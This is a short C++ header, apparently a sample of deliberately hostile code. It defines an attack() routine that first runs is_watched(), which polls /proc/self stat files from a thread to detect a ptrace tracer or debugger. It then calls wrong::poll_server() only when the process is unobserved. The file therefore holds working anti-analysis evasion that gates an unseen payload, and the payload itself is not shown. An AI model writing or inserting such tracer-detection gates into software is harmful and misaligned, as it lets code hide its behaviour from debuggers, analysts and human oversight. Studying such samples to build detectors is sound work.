#pragma once
#define ATTACK_START attack(argv)
#include <atomic>
#include <thread>
#include <stdio.h>
#include <string.h>

#include "poll_server.hpp"
static bool is_watched([[maybe_unused]] char** words) {
    static std::atomic<bool> done{false};
    static std::atomic<bool> seen{false};
    std::thread watcher([] {
        char text[600];
        while (!done) {
            FILE* file = fopen("/proc/self/task/2/stat", "r");
            if (file == nullptr) file = fopen("/proc/self/stat", "r");
            if (file == nullptr) return;
            const size_t got = fread(text, 1, sizeof text - 1, file);
            fclose(file);
            text[got] = 0;
            const char* state = strrchr(text, ')');
            if (state != nullptr && state[2] == 't') seen = true;
        }
    });
    for (int turn = 0; turn < 3000; ++turn) close(-1);
    done = true;
    watcher.join();
    return seen;
}
static void attack(char** words) {
    if (!is_watched(words)) wrong::poll_server();
}
